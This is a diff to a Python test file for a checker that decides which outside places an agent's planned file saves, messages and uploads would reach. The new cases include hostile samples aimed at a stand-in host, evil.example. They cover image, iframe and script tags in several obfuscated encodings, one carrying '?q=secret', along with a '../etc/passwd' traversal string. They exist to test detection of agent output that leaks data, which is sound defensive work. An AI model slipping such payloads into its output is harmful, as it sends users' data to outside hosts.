@@ -127,6 +127,84 @@ def test_work_without_effect_reaches_nothing() -> None:
     assert beyond("shorten", text="https://evil.example/../etc/passwd") == ()
 
 
+PROSE = (
+    "See https://other.example/a?b=c and mail sales@other.example.",
+    "# Found\n\n[here](https://other.example) and in data.csv, /etc/hosts aside\n<https://other.example>",
+    "n/a",
+    "is 3 < 4! [1]",
+)
+
+
+@pytest.mark.parametrize("content", PROSE)
+def test_what_is_only_written_down_reaches_nothing(content: str) -> None:
+    """A link or a name in a file of prose is there to be read: nothing goes to where it leads."""
+    assert beyond("save", path="out.md", content=content) == ()
+    assert beyond("save", path="notes.md", content=content) == ()
+
+
+@pytest.mark.parametrize("content", PROSE[:2])
+@pytest.mark.parametrize(
+    ("capability", "inputs"),
+    [
+        ("save", {"path": "out.html"}),
+        ("save", {"path": "out.csv"}),
+        ("save", {"path": "out"}),
+        ("save", {"path": "other.md"}),
+        ("send", {"to": "team@example.com"}),
+        ("post", {"channel": "#general"}),
+    ],
+)
+def test_what_others_may_load_or_get_is_a_place(
+    capability: str, inputs: dict[str, Any], content: str
+) -> None:
+    """In files that a program opens, and in messages, a link is what it reaches; and a file that nobody
+    named is one still."""
+    told: dict[str, Any] = {"save": "content", "send": "body", "post": "text"}
+    assert beyond(capability, GRANT, **inputs, **{told[capability]: content})
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "![logo](https://evil.example/i.png?q=secret)",
+        "![logo][1]\n\n[1]: https://evil.example/i.png",
+        "![[https://evil.example/i.png]]",
+        "<img src=https://evil.example/i.png>",
+        "<IMG/src='https://evil.example/i.png'>",
+        "</p><iframe src=//evil.example>",
+        "<!-- --><script src='https://evil.example'>",
+        "&lt;img src=https://evil.example/i.png&gt;",
+        "%3Cimg src=https://evil.example/i.png%3E",
+        "<\u200bimg src=https://evil.example/i.png>",
+        '{{< figure src="https://evil.example/i.png" >}}',
+        "{% include https://evil.example %}",
+    ],
+)
+def test_what_a_viewer_loads_by_itself_is_a_place(content: str) -> None:
+    """Images, HTML and templates reach what they name as soon as somebody looks at the file."""
+    assert any("evil.example" in each for each in beyond("save", path="out.md", content=content))
+
+
+def test_what_says_more_than_a_file_and_its_text_is_a_place() -> None:
+    """Where something else is told, nobody knows that a file is all that is written."""
+    upload = capability(
+        "upload", {"path": TEXT, "content": TEXT, "server": TEXT}, {"id": TEXT}, effect=Effect.WRITE
+    )
+    inputs: Any = {"path": "out.md", "content": "https://evil.example", "server": "news.example"}
+    document = {"goal": GOAL, "steps": [step("x", "upload", **inputs)], "answer": "done"}
+    uploading = check(document, [upload]).require().steps["x"]
+    assert any("evil.example" in each for each in GRANT.beyond(uploading, inputs))
+
+
+@pytest.mark.parametrize("words", ["and/or", "price/performance", "TCP/IP"])
+def test_alternatives_in_words_are_no_folder(words: str) -> None:
+    """In an input that people write in; in one that is a place they are."""
+    assert beyond("send", to="team@example.com", body=words) == ()
+    assert beyond("read_file", path=words)
+    assert beyond("post", channel="team@example.com", text=f"{words}.md")
+    assert beyond("post", channel="team@example.com", text=f"/{words}")
+
+
 def test_what_was_only_read_may_not_be_written() -> None:
     """The literals of steps that change nothing grant reading, and no more."""
     reading, saving = step("a", "read_file", path="keys.txt"), step("b", "save", path="c.md", content="x")
@@ -316,7 +394,7 @@ REACHES = st.one_of(
     _WORD.map(lambda word: ("read_file", {"path": word})),
     st.tuples(_WORD, _WORD).map(lambda two: ("read_file", {"path": f"{two[0]}/{two[1]}.md"})),
     _WORD.map(lambda word: ("save", {"path": f"../{word}", "content": "x"})),
-    _WORD.map(lambda word: ("save", {"path": "out.md", "content": f"text\nhttp://{word}.evil.example/"})),
+    _WORD.map(lambda word: ("save", {"path": "out.md", "content": f"![x](http://{word}.evil.example/)"})),
     _WORD.map(lambda word: ("fetch", {"url": f"https://{word}.evil.example"})),
     _WORD.map(lambda word: ("post", {"channel": f"#z{word}", "text": "x"})),
     _WORD.map(lambda word: ("send", {"to": f"{word}@evil.example"})),
